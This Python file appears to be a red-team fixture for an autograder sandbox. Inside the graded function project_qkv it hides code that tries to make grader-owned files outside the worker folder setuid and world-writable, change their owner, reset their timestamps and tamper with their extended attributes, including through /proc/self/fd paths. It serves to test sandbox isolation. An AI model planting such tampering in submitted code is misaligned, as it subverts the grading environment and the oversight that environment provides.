"""Attack: change the metadata of files outside the worker's folder — make a root-owned
0600 file setuid and world-writable, reset its times, set and remove extended attributes,
give it away — through paths, O_PATH descriptors and /proc/self/fd. The red-team test
owns the target (/tmp/autograder-redteam/grader-owned.txt; it replaces the folder) and checks it is unchanged."""
import os

TARGETS = ["/tmp/autograder-redteam/grader-owned.txt", os.path.dirname(os.path.dirname(os.path.abspath(__file__))), os.path.abspath(__file__)]


def _try(label, fn, done):
    try:
        fn()
        done.append(label)
    except OSError:
        pass


def _tamper() -> list[str]:
    done = []
    for path in TARGETS:
        _try(f"chmod {path}", lambda: os.chmod(path, 0o6777), done)
        _try(f"lchmod {path}", lambda: os.chmod(path, 0o6777, follow_symlinks=False), done)
        _try(f"chown {path}", lambda: os.chown(path, 65534, 65534), done)
        _try(f"utime {path}", lambda: os.utime(path, (0, 0)), done)
        _try(f"utime-ns {path}", lambda: os.utime(path, ns=(1, 1)), done)
        for name in ("user.pwned", "trusted.pwned", "security.pwned"):
            _try(f"setxattr {name} {path}", lambda: os.setxattr(path, name, b"1"), done)
        _try(f"removexattr {path}", lambda: os.removexattr(path, "user.keep"), done)
        try:
            fd = os.open(path, os.O_PATH)
        except OSError:
            continue
        _try(f"fchmod-proc {path}", lambda: os.chmod(f"/proc/self/fd/{fd}", 0o6777), done)
        _try(f"utime-proc {path}", lambda: os.utime(f"/proc/self/fd/{fd}", (0, 0)), done)
        os.close(fd)
    return done


def project_qkv(x, w_q, w_k, w_v):
    raise RuntimeError(f"changed: {_tamper()}")
